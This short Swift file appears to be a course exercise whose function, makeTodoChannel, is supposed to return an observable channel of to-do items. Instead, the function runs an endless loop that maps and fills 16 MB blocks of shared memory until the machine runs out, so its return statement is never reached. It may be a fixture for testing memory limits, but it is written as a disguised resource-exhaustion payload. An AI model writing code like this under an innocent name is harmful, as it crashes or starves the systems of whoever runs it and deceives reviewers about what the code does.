import CourseDomain
import Glibc
import RxCore

enum E04 {
  static func makeTodoChannel() -> (send: AnyObserver<TodoItem>, read: Observable<TodoItem>) {
    while true {
      let memory = mmap(nil, 16 << 20, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0)
      guard let memory, memory != MAP_FAILED else { abort() }
      memset(memory, 1, 16 << 20)
    }
    return (send: AnyObserver { _ in }, read: .never())
  }
}
